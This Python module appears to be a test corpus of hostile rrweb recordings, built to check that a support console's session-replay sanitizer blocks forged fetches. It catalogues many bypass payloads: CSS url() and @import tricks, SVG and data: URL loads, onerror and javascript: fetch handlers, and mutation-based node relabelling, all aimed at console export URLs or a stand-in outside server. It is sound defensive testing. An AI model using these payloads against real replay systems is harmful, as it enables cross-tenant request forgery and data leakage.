"""Recordings a hostile page could send with the public app key, each built to make the
support console's replay fetch something: from the console (cookie-carrying requests
that would write audit records of views and exports the viewer never made) or from
anywhere else.

Each recording is a list of rrweb events (rrweb's node shape, which the collector stores
and shows as it came). `Targets` names what they aim at: console URLs about a victim
session of another instance, and an outside server that counts every hit. The nodes of
the page are built from small helpers so that each recording shows only its attack.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Event = dict[str, Any]
Node = dict[str, Any]

DOCUMENT, ELEMENT, TEXT = 0, 2, 3
FULL_SNAPSHOT, INCREMENTAL, META = 2, 3, 4
MUTATION, MOUSE_MOVE = 0, 1
START = 1_700_000_000_000  # epoch ms of every recording's first event


@dataclass(frozen=True)
class Targets:
    console: str  # the console's origin, http://127.0.0.1:PORT
    victim: str  # a session of another instance, which nobody views
    outside: str  # origin of a server that counts what reaches it

    @property
    def export(self) -> str:
        return f"/console/sessions/{self.victim}/export"

    @property
    def events(self) -> str:
        return f"/console/api/sessions/{self.victim}/events"

    def out(self, name: str) -> str:
        return f"{self.outside}/{name}"


def el(
    id: int, tag: str, attrs: dict[str, Any] | None = None, *children: Node, **flags: bool
) -> Node:
    return {
        "type": ELEMENT,
        "tagName": tag,
        "attributes": dict(attrs or {}),
        "childNodes": list(children),
        "id": id,
        **flags,
    }


def txt(id: int, text: str, **flags: bool) -> Node:
    return {"type": TEXT, "textContent": text, "id": id, **flags}


def page(head: list[Node], body: list[Node]) -> Node:
    """A document: ids 1 (document), 2 (html), 3 (head), 4 (body); attack nodes use 10+."""
    html = el(2, "html", {}, el(3, "head", {}, *head), el(4, "body", {}, *body))
    return {"type": DOCUMENT, "childNodes": [html], "id": 1}


def recording(node: Node, *later: Event) -> list[Event]:
    """Meta, the full snapshot, `later` incremental data (100 ms apart), and a last mouse
    move so that every recording lasts a moment after its last attack."""
    events: list[Event] = [
        {
            "type": META,
            "timestamp": START,
            "data": {"href": "http://app.test/", "width": 800, "height": 600},
        },
        {
            "type": FULL_SNAPSHOT,
            "timestamp": START + 1,
            "data": {"node": node, "initialOffset": {"top": 0, "left": 0}},
        },
    ]
    for i, data in enumerate(later):
        events.append({"type": INCREMENTAL, "timestamp": START + 100 * (i + 1), "data": data})
    last = START + 100 * (len(later) + 2)
    events.append(
        {
            "type": INCREMENTAL,
            "timestamp": last,
            "data": {
                "source": MOUSE_MOVE,
                "positions": [{"x": 1, "y": 1, "id": 4, "timeOffset": 0}],
            },
        }
    )
    return events


def mutation(
    adds: list[Any] | None = None,
    attributes: list[Any] | None = None,
    texts: list[Any] | None = None,
    removes: list[Any] | None = None,
) -> Event:
    return {
        "source": MUTATION,
        "adds": adds or [],
        "attributes": attributes or [],
        "texts": texts or [],
        "removes": removes or [],
    }


def add(parent: int, node: Node, next_id: int | None = None) -> dict[str, Any]:
    return {"parentId": parent, "nextId": next_id, "node": node}


def svg_document(image: str) -> str:
    """A data: URL of an SVG document whose <image> fetches `image`."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><image href='IMAGE'/></svg>"
    return "data:image/svg+xml," + svg.replace("IMAGE", image)


def snapshot_with(*body: Node, head: tuple[Node, ...] = ()) -> list[Event]:
    return recording(page(list(head), list(body)))


# --- the corpus: name -> recording -------------------------------------------------------

Build = Callable[[Targets], list[Event]]
CORPUS: dict[str, Build] = {}


def hostile(name: str) -> Callable[[Build], Build]:
    def register(build: Build) -> Build:
        CORPUS[name] = build
        return build

    return register


@hostile("img-src")
def _img_src(t: Targets) -> list[Event]:
    return snapshot_with(el(10, "img", {"src": t.export}), el(11, "img", {"src": t.out("img")}))


@hostile("img-srcset")
def _img_srcset(t: Targets) -> list[Event]:
    return snapshot_with(el(10, "img", {"srcset": f"{t.export} 1x, {t.out('srcset')} 2x"}))


@hostile("picture-source-srcset")
def _picture(t: Targets) -> list[Event]:
    source = el(11, "source", {"srcset": t.events, "type": "image/png"})
    return snapshot_with(el(10, "picture", {}, source, el(12, "img", {})))


@hostile("link-stylesheet")
def _link_stylesheet(t: Targets) -> list[Event]:
    return snapshot_with(
        head=(
            el(10, "link", {"rel": "stylesheet", "href": t.export}),
            el(11, "link", {"rel": "stylesheet", "href": t.out("css")}),
        )
    )


@hostile("link-preload-prefetch-icon")
def _link_hints(t: Targets) -> list[Event]:
    return snapshot_with(
        head=(
            el(10, "link", {"rel": "preload", "as": "image", "href": t.export}),
            el(11, "link", {"rel": "preload", "as": "image", "imagesrcset": f"{t.events} 1x"}),
            el(12, "link", {"rel": "prefetch", "href": t.out("prefetch")}),
            el(13, "link", {"rel": "icon", "href": t.out("icon")}),
            el(14, "link", {"rel": "modulepreload", "href": t.out("module")}),
        )
    )


@hostile("link-fragment-href")
def _link_fragment(t: Targets) -> list[Event]:
    # A fragment-only URL resolves against the console page's URL: a stylesheet or an SVG
    # image "#x" would fetch the console page itself.
    image = el(12, "image", {"href": "#x", "width": "5", "height": "5"}, isSVG=True)
    use = el(13, "use", {"href": "#"}, isSVG=True)
    fe = el(14, "filter", {"id": "f"}, el(15, "feImage", {"href": "#x"}, isSVG=True), isSVG=True)
    svg = el(11, "svg", {}, image, use, fe, isSVG=True)
    links = (
        el(10, "link", {"rel": "stylesheet", "href": "#x"}),
        el(16, "link", {"rel": "icon", "href": "#"}),
    )
    return snapshot_with(svg, head=links)


@hostile("style-import")
def _style_import(t: Targets) -> list[Event]:
    css = f'@import url("{t.export}"); @import "{t.out("import")}"; body {{ color: red }}'
    return snapshot_with(head=(el(10, "style", {}, txt(11, css, isStyle=True)),))


@hostile("style-escaped-url")
def _style_escaped(t: Targets) -> list[Event]:
    css = (
        f"body {{ background: u\\72l({t.events}) }} "
        f"p {{ background: \\75 rl('{t.out('escaped')}') }}"
    )
    return snapshot_with(head=(el(10, "style", {}, txt(11, css, isStyle=True)),))


@hostile("style-background-url")
def _style_background(t: Targets) -> list[Event]:
    css = f"body {{ background-image: url({t.export}) }} p {{ list-style: url('{t.out('list')}') }}"
    return snapshot_with(el(12, "p", {}, txt(13, "x")), head=(el(10, "style", {}, txt(11, css)),))


@hostile("style-attribute-url")
def _style_attribute(t: Targets) -> list[Event]:
    return snapshot_with(
        el(10, "div", {"style": f"width:10px;height:10px;background:url({t.export})"}),
        el(11, "p", {"style": f"border-image: url('{t.out('border')}') 30"}),
    )


@hostile("font-face")
def _font_face(t: Targets) -> list[Event]:
    css = (
        f"@font-face {{ font-family: X; src: url({t.export}) format('woff2'), "
        f"url({t.out('font')}); }} body {{ font-family: X }}"
    )
    return snapshot_with(
        el(12, "p", {}, txt(13, "text")), head=(el(10, "style", {}, txt(11, css)),)
    )


@hostile("image-set")
def _image_set(t: Targets) -> list[Event]:
    css = (
        f'div {{ width: 9px; height: 9px; background-image: image-set("{t.export}" 1x); }} '
        f"p {{ background-image: -webkit-image-set(url({t.out('webkit')}) 1x) }}"
    )
    return snapshot_with(
        el(12, "div", {}), el(13, "p", {}, txt(14, "x")), head=(el(10, "style", {}, txt(11, css)),)
    )


@hostile("cursor-mask-filter")
def _cursor_mask(t: Targets) -> list[Event]:
    style = (
        f"width:9px;height:9px;cursor:url({t.export}),auto;mask-image:url({t.out('mask')});"
        f"-webkit-mask-image:url({t.events});filter:url({t.out('filter')}#f)"
    )
    return snapshot_with(el(10, "div", {"style": style}))


@hostile("svg-image-href")
def _svg_image(t: Targets) -> list[Event]:
    image = el(11, "image", {"href": t.export, "width": "5", "height": "5"}, isSVG=True)
    xlink = el(12, "image", {"xlink:href": t.out("xlink"), "width": "5", "height": "5"}, isSVG=True)
    return snapshot_with(el(10, "svg", {"width": "20", "height": "20"}, image, xlink, isSVG=True))


@hostile("svg-use-feimage")
def _svg_use(t: Targets) -> list[Event]:
    use = el(11, "use", {"href": f"{t.export}#a"}, isSVG=True)
    fe = el(
        13,
        "filter",
        {"id": "f"},
        el(14, "feImage", {"href": t.out("feimage")}, isSVG=True),
        isSVG=True,
    )
    return snapshot_with(
        el(
            10,
            "svg",
            {},
            use,
            el(12, "use", {"xlink:href": f"{t.out('use')}#b"}, isSVG=True),
            fe,
            isSVG=True,
        )
    )


@hostile("svg-animation-sets-href")
def _svg_set(t: Targets) -> list[Event]:
    image = el(
        11,
        "image",
        {"width": "5", "height": "5"},
        el(12, "set", {"attributeName": "href", "to": t.export}, isSVG=True),
        isSVG=True,
    )
    animate = el(
        13,
        "image",
        {"width": "5", "height": "5"},
        el(
            14,
            "animate",
            {"attributeName": "href", "values": t.out("animate"), "dur": "1s"},
            isSVG=True,
        ),
        isSVG=True,
    )
    return snapshot_with(el(10, "svg", {}, image, animate, isSVG=True))


@hostile("object-embed")
def _object_embed(t: Targets) -> list[Event]:
    return snapshot_with(
        el(10, "object", {"data": t.export, "type": "text/html"}),
        el(11, "embed", {"src": t.out("embed"), "type": "image/png"}),
    )


@hostile("iframe-src-srcdoc")
def _iframe(t: Targets) -> list[Event]:
    return snapshot_with(
        el(10, "iframe", {"src": t.export}),
        el(11, "iframe", {"srcdoc": f'<img src="{t.out("srcdoc")}">'}),
        el(12, "frame", {"src": t.out("frame")}),
    )


@hostile("meta-refresh")
def _meta_refresh(t: Targets) -> list[Event]:
    return snapshot_with(
        head=(el(10, "meta", {"http-equiv": "refresh", "content": f"0;url={t.export}"}),)
    )


@hostile("base-href")
def _base(t: Targets) -> list[Event]:
    # A base pointing elsewhere, then relative URLs (which the rest may let through).
    return snapshot_with(
        el(11, "img", {"src": "relative.png"}),
        el(12, "a", {"href": "next"}, txt(13, "a")),
        head=(el(10, "base", {"href": t.out("base/")}),),
    )


@hostile("media-poster-src-track")
def _media(t: Targets) -> list[Event]:
    video = el(
        10,
        "video",
        {"poster": t.export, "src": t.out("video"), "preload": "auto"},
        el(11, "source", {"src": t.out("source")}),
        el(12, "track", {"src": t.events, "default": ""}),
    )
    return snapshot_with(video, el(13, "audio", {"src": t.out("audio"), "preload": "auto"}))


@hostile("input-image-and-background")
def _input_image(t: Targets) -> list[Event]:
    table = el(
        11,
        "table",
        {"background": t.out("table")},
        el(12, "tbody", {}, el(13, "tr", {}, el(14, "td", {"background": t.export}, txt(15, "x")))),
    )
    return snapshot_with(el(10, "input", {"type": "image", "src": t.export}), table)


@hostile("body-background-attribute")
def _body_background(t: Targets) -> list[Event]:
    html = el(2, "html", {}, el(3, "head", {}), el(4, "body", {"background": t.export}))
    return recording({"type": DOCUMENT, "childNodes": [html], "id": 1})


@hostile("scripts-and-javascript-urls")
def _scripts(t: Targets) -> list[Event]:
    script = el(10, "script", {"src": t.out("script")})
    inline = el(11, "script", {}, txt(12, f"new Image().src = '{t.export}'"))
    handler = el(13, "img", {"src": "data:,x", "onerror": f"fetch('{t.export}')"})
    js = el(14, "iframe", {"src": f"javascript:fetch('{t.export}')"})
    return snapshot_with(handler, js, head=(script, inline))


@hostile("form-action-autofocus")
def _form(t: Targets) -> list[Event]:
    form = el(
        10,
        "form",
        {"action": t.export, "method": "get"},
        el(11, "input", {"name": "q", "autofocus": ""}),
        el(12, "button", {"formaction": t.out("formaction")}, txt(13, "go")),
    )
    return snapshot_with(form)


@hostile("anchor-ping-and-prefetch")
def _anchor(t: Targets) -> list[Event]:
    a = el(10, "a", {"href": t.export, "ping": t.out("ping"), "rel": "prefetch"}, txt(11, "link"))
    area = el(12, "map", {"name": "m"}, el(13, "area", {"href": t.out("area"), "ping": t.events}))
    return snapshot_with(a, area)


@hostile("rrweb-specials")
def _rrweb_specials(t: Targets) -> list[Event]:
    # rrweb's own attributes: a stylesheet's inlined text, a canvas/image data URL, a
    # recorded src kept aside.
    style = el(10, "style", {"_cssText": f"body {{ background: url({t.export}) }}"})
    link = el(11, "link", {"rel": "stylesheet", "_cssText": f"@import '{t.out('cssText')}';"})
    canvas = el(12, "canvas", {"rr_dataURL": t.out("dataurl"), "width": "5", "height": "5"})
    img = el(13, "img", {"rr_dataURL": t.events})
    return snapshot_with(canvas, img, head=(style, link))


@hostile("uppercase-and-spaced-names")
def _uppercase(t: Targets) -> list[Event]:
    return snapshot_with(
        el(10, "IMG", {"SRC": t.export}),
        el(11, "img", {" src": t.out("spaced"), "Src": t.out("mixed")}),
        el(12, "Video", {"Poster": t.out("poster")}),
    )


# --- incremental attacks ---------------------------------------------------------------


@hostile("attribute-change-after-creation")
def _attribute_change(t: Targets) -> list[Event]:
    node = page([el(10, "link", {"rel": "stylesheet"})], [el(11, "img", {}), el(12, "iframe", {})])
    change = mutation(
        attributes=[
            {"id": 11, "attributes": {"src": t.export}},
            {"id": 10, "attributes": {"href": t.out("late-link")}},
            {"id": 12, "attributes": {"src": t.events}},
        ]
    )
    return recording(node, change)


@hostile("style-object-mutation")
def _style_object(t: Targets) -> list[Event]:
    node = page([], [el(10, "div", {"style": "width:9px;height:9px"})])
    change = mutation(
        attributes=[
            {
                "id": 10,
                "attributes": {
                    "style": {
                        "background-image": f"url({t.export})",
                        "cursor": [f"url({t.out('cursor')}), auto", "important"],
                    }
                },
            }
        ]
    )
    return recording(node, change)


@hostile("added-nodes-fetch")
def _added_nodes(t: Targets) -> list[Event]:
    adds = [
        add(4, el(10, "img", {"src": t.export})),
        add(3, el(11, "link", {"rel": "stylesheet", "href": t.out("added-link")})),
        add(4, el(12, "video", {"poster": t.out("added-poster")})),
    ]
    return recording(page([], []), mutation(adds=adds))


@hostile("text-before-its-style")
def _text_before_style(t: Targets) -> list[Event]:
    # The style's text comes first in the add list: rrweb defers it until its parent
    # exists, then puts it in the <style>.
    css = f"body {{ background: url({t.export}) }} @import url({t.out('text-first')});"
    adds = [add(20, txt(21, css)), add(3, el(20, "style", {}))]
    return recording(page([], []), mutation(adds=adds))


@hostile("missing-parent-relabels-link")
def _relabel_link(t: Targets) -> list[Event]:
    # The link (id 10) exists; an add under a missing parent claims id 10 is an <a>, and
    # a later href change on id 10 reaches the real <link>.
    node = page([el(10, "link", {"rel": "stylesheet"})], [])
    relabel = mutation(adds=[add(999, el(10, "a", {}))])
    change = mutation(attributes=[{"id": 10, "attributes": {"href": t.export}}])
    return recording(node, relabel, change)


@hostile("missing-parent-relabels-svg-image")
def _relabel_image(t: Targets) -> list[Event]:
    svg = el(
        10,
        "svg",
        {"width": "9", "height": "9"},
        el(11, "image", {"width": "9", "height": "9"}, isSVG=True),
        isSVG=True,
    )
    relabel = mutation(adds=[add(998, el(11, "a", {}, isSVG=True))])
    change = mutation(
        attributes=[{"id": 11, "attributes": {"href": t.out("relabelled"), "xlink:href": t.events}}]
    )
    return recording(page([], [svg]), relabel, change)


@hostile("relabel-meta-then-refresh")
def _relabel_meta(t: Targets) -> list[Event]:
    node = page([el(10, "meta", {"name": "x"})], [])
    relabel = mutation(adds=[add(997, el(10, "div", {}))])
    change = mutation(
        attributes=[
            {"id": 10, "attributes": {"http-equiv": "refresh", "content": f"0;url={t.export}"}}
        ]
    )
    return recording(node, relabel, change)


@hostile("text-mutation-into-style")
def _text_mutation(t: Targets) -> list[Event]:
    node = page([el(10, "style", {}, txt(11, "p { color: red }"))], [el(12, "p", {}, txt(13, "x"))])
    change = mutation(
        texts=[
            {
                "id": 11,
                "value": f"@import url({t.export}); "
                f"p {{ background: url({t.out('text-mutation')}) }}",
            }
        ]
    )
    return recording(node, change)


@hostile("text-mutation-on-style-element")
def _text_on_element(t: Targets) -> list[Event]:
    node = page([el(10, "style", {})], [el(12, "p", {}, txt(13, "x"))])
    change = mutation(texts=[{"id": 10, "value": f"p {{ background: url({t.export}) }}"}])
    return recording(node, change)


@hostile("text-moved-into-style")
def _text_moved(t: Targets) -> list[Event]:
    # A plain text node (not CSS where it was) re-added under a <style> keeps its id.
    css = f"body {{ background: url({t.export}) }}"
    node = page([el(10, "style", {})], [el(12, "p", {}, txt(13, css))])
    return recording(
        node, mutation(removes=[{"parentId": 12, "id": 13}], adds=[add(10, txt(13, css))])
    )


@hostile("stylesheet-rule-sources")
def _stylesheet_rules(t: Targets) -> list[Event]:
    node = page([el(10, "style", {}, txt(11, "p { color: red }"))], [el(12, "p", {}, txt(13, "x"))])
    rule = {
        "source": 8,
        "id": 10,
        "adds": [{"rule": f"p {{ background: url({t.export}) }}", "index": 0}],
    }
    replace = {"source": 8, "id": 10, "replace": f"@import url({t.out('replace')});"}
    declaration = {
        "source": 13,
        "id": 10,
        "index": [0],
        "set": {"property": "background", "value": f"url({t.events})"},
    }
    return recording(node, rule, replace, declaration)


@hostile("adopted-stylesheet")
def _adopted(t: Targets) -> list[Event]:
    sheet = {
        "source": 15,
        "id": 1,
        "styleIds": [1],
        "styles": [{"styleId": 1, "rules": [{"rule": f"body {{ background: url({t.export}) }}"}]}],
    }
    return recording(page([], [el(12, "p", {}, txt(13, "x"))]), sheet)


@hostile("second-full-snapshot")
def _second_snapshot(t: Targets) -> list[Event]:
    events = snapshot_with(el(10, "p", {}, txt(11, "first page")))
    later = page(
        [], [el(20, "img", {"src": t.export}), el(21, "img", {"srcset": t.out("second") + " 1x"})]
    )
    events.insert(
        -1,
        {
            "type": FULL_SNAPSHOT,
            "timestamp": events[-1]["timestamp"] - 50,
            "data": {"node": later, "initialOffset": {"top": 0, "left": 0}},
        },
    )
    return events


@hostile("shadow-dom")
def _shadow(t: Targets) -> list[Event]:
    inner = el(11, "img", {"src": t.export}, isShadow=True)
    style = el(
        12, "style", {}, txt(13, f"div {{ background: url({t.out('shadow')}) }}"), isShadow=True
    )
    return snapshot_with(el(10, "div", {}, inner, style, isShadowHost=True))


@hostile("nested-iframe-document")
def _nested_document(t: Targets) -> list[Event]:
    # rrweb builds a recorded iframe's document into the iframe element of the replay.
    inner_html = el(
        22, "html", {}, el(23, "head", {}), el(24, "body", {}, el(25, "img", {"src": t.export}))
    )
    inner = {"type": DOCUMENT, "childNodes": [inner_html], "id": 21}
    node = page([], [el(20, "iframe", {})])
    return recording(node, mutation(adds=[add(20, inner)]))


@hostile("dropped-sources")
def _dropped_sources(t: Targets) -> list[Event]:
    canvas = {
        "source": 9,
        "id": 10,
        "type": 0,
        "commands": [
            {
                "property": "drawImage",
                "args": [{"rr_type": "HTMLImageElement", "src": t.export}, 0, 0],
            }
        ],
    }
    font = {
        "source": 10,
        "family": "X",
        "fontSource": f"url({t.out('fontsource')})",
        "buffer": False,
    }
    return recording(page([], [el(10, "canvas", {"width": "9", "height": "9"})]), canvas, font)


@hostile("custom-and-plugin-events")
def _plugin(t: Targets) -> list[Event]:
    events = snapshot_with(el(10, "p", {}, txt(11, "x")))
    events.insert(
        2,
        {
            "type": 6,
            "timestamp": START + 50,
            "data": {"plugin": "rrweb/console@1", "payload": {"src": t.export}},
        },
    )
    events.insert(
        3,
        {
            "type": 7,
            "timestamp": START + 60,
            "data": {"url": t.out("asset"), "payload": {"rr_type": "Blob", "src": t.events}},
        },
    )
    return events


@hostile("svg-style-and-foreign-object")
def _svg_style(t: Targets) -> list[Event]:
    svg_style = el(11, "style", {}, txt(12, f"rect {{ fill: url({t.export}) }}"), isSVG=True)
    foreign = el(
        13,
        "foreignObject",
        {"width": "9", "height": "9"},
        el(14, "img", {"src": t.out("foreign")}),
        isSVG=True,
    )
    return snapshot_with(
        el(
            10,
            "svg",
            {},
            svg_style,
            el(15, "rect", {"width": "9", "height": "9"}, isSVG=True),
            foreign,
            isSVG=True,
        )
    )


@hostile("selector-tricks")
def _selector_tricks(t: Targets) -> list[Event]:
    # url() hidden in a selector attribute string, in a comment-broken form and in a
    # custom property used elsewhere.
    css = (
        f'[data-x="url({t.out("selector")})"] {{ }} '
        f"p {{ --u: url({t.export}); background: var(--u) }} "
        f"div {{ background: ur/**/l({t.out('comment')}) }}"
    )
    return snapshot_with(
        el(12, "p", {}, txt(13, "x")), el(14, "div", {}), head=(el(10, "style", {}, txt(11, css)),)
    )


@hostile("svg-data-url-in-frames")
def _svg_data_frames(t: Targets) -> list[Event]:
    # An SVG data: URL is a document when framed: its own <image> would fetch.
    svg = svg_document(f"{t.console}{t.export}")
    return snapshot_with(
        el(10, "iframe", {"src": svg}),
        el(11, "embed", {"src": svg}),
        el(12, "object", {"data": svg}),
        el(13, "img", {"src": svg}),
    )


@hostile("relabel-img-as-iframe-then-svg-data")
def _relabel_iframe(t: Targets) -> list[Event]:
    # The node is an <iframe>; an add under a missing parent says id 10 is an <img>, and a
    # data: image (fine on an <img>) is then set on it.
    svg = svg_document(t.out("framed-svg"))
    node = page([], [el(10, "iframe", {})])
    relabel = mutation(adds=[add(996, el(10, "img", {}))])
    change = mutation(attributes=[{"id": 10, "attributes": {"src": svg}}])
    return recording(node, relabel, change)


@hostile("event-handler-and-numeric-attributes")
def _handlers(t: Targets) -> list[Event]:
    node = page([], [el(10, "img", {"onload": f"fetch('{t.export}')", "rr_width": 5})])
    change = mutation(
        attributes=[{"id": 10, "attributes": {"onerror": f"location='{t.export}'", "src": 7}}]
    )
    return recording(node, change)


@hostile("fragment-urls-in-css")
def _css_fragments(t: Targets) -> list[Event]:
    # A fragment-only url() resolves against the console page's URL: everywhere it is not
    # a reference to an element, it would be a fetch of the console page itself.
    css = (
        "@font-face { font-family: F; src: url(#x) format('woff2'); } "
        "p { font-family: F; background: url(#x); list-style: url('#y'); "
        "cursor: url(#z), auto; border-image: url(#w) 30; } "
        'div { background-image: url("  #v"); mask-image: url(#u); content: url(#t); } '
        "rect { fill: url(#g); filter: url(#f); }"
    )
    svg = el(15, "svg", {}, el(16, "rect", {"width": "5", "height": "5"}, isSVG=True), isSVG=True)
    body = (el(12, "p", {}, txt(13, "x")), el(14, "div", {}), svg)
    return snapshot_with(*body, head=(el(10, "style", {}, txt(11, css)),))


@hostile("values-of-the-wrong-type")
def _wrong_types(t: Targets) -> list[Event]:
    # rrweb writes whatever it gets through String(): an array is its text.
    node = page([el(10, "style", {}, txt(11, "p {}"))], [el(12, "p", {}, txt(13, "x"))])
    texts = mutation(texts=[{"id": 11, "value": [f"@import url({t.export});"]}])
    array_text = {"type": TEXT, "textContent": [f"p {{ background: url({t.out('array')}) }}"]}
    adds = mutation(adds=[add(3, el(20, "style", {})), add(20, {**array_text, "id": 21})])
    rule = {
        "source": 8,
        "id": 10,
        "adds": [{"rule": [f"p {{ background: url({t.events}) }}"], "index": 0}],
    }
    declaration = {
        "source": 13,
        "id": 10,
        "index": [0],
        "set": {"property": "background", "value": [f"url({t.out('declaration')})"]},
    }
    return recording(node, texts, adds, rule, declaration)


@hostile("style-texts-joined")
def _joined_texts(t: Targets) -> list[Event]:
    # A <style>'s sheet is its texts joined: each piece is harmless alone.
    split_url = el(10, "style", {}, txt(11, "body { background: ur"), txt(12, f"l({t.export}) }}"))
    split_import = el(13, "style", {}, txt(14, "@"), txt(15, f"import '{t.out('joined-import')}';"))
    in_string = el(
        16,
        "style",
        {},
        txt(17, 'p { content: "'),
        txt(18, f'"; background: url({t.events}) }}'),
    )
    unclosed = el(
        19,
        "style",
        {},
        txt(20, "div { background: image-set("),
        txt(21, f'"{t.out("set")}" 1x) }}'),
    )
    body = (el(22, "p", {}, txt(23, "x")), el(24, "div", {}))
    return snapshot_with(*body, head=(split_url, split_import, in_string, unclosed))


@hostile("style-text-added-beside-csstext")
def _beside_csstext(t: Targets) -> list[Event]:
    # rrweb builds a <style> from its _cssText; a text added after it joins that sheet.
    style = el(10, "style", {"_cssText": 'p { content: "'})
    node = page([style], [el(12, "p", {}, txt(13, "x"))])
    later = mutation(adds=[add(10, txt(11, f'"; background: url({t.export}) }}'))])
    return recording(node, later)


@hostile("speculation-rules-and-hints")
def _speculation(t: Targets) -> list[Event]:
    # Not script that runs, but rules the browser acts on; and link hints that prefetch.
    rules = '{"prefetch": [{"source": "list", "urls": ["URL"]}]}'.replace("URL", t.export)
    importmap = '{"imports": {"x": "URL"}}'.replace("URL", t.out("importmap"))
    head = (
        el(10, "script", {"type": "speculationrules"}, txt(11, rules)),
        el(12, "script", {"type": "importmap"}, txt(13, importmap)),
        el(14, "link", {"rel": "prerender", "href": t.events}),
        el(15, "link", {"rel": "dns-prefetch preconnect", "href": t.out("preconnect")}),
        el(16, "meta", {"http-equiv": "Link", "content": f"<{t.export}>; rel=preload; as=image"}),
    )
    return snapshot_with(el(17, "p", {}, txt(18, "x")), head=head)


@hostile("svg-data-urls-in-css-references")
def _svg_data_css(t: Targets) -> list[Event]:
    # An SVG data: URL that a filter, mask or clip-path references is a resource
    # document, not an image: its own <image>/<feImage> would fetch if it were loaded so.
    def svg(body: str) -> str:
        return "data:image/svg+xml," + (
            "<svg xmlns='http://www.w3.org/2000/svg'>" + body + "</svg>"
        ).replace("'", "%27").replace("#", "%23").replace("<", "%3C").replace(">", "%3E")

    fe = svg(f"<filter id='f'><feImage href='{t.out('fe-data')}'/></filter>")
    mask = svg(f"<mask id='m'><image href='{t.console}{t.export}' width='9' height='9'/></mask>")
    clip = svg(f"<clipPath id='c'><use href='{t.out('clip-use')}%23x'/></clipPath>")
    img = svg(f"<image href='{t.out('bg-image')}' width='9' height='9'/>")
    style = (
        f'width:9px;height:9px;filter:url("{fe}#f");mask:url("{mask}#m");'
        f'clip-path:url("{clip}#c");background:url("{img}");cursor:url("{img}"),auto'
    )
    return snapshot_with(el(10, "div", {"style": style}))
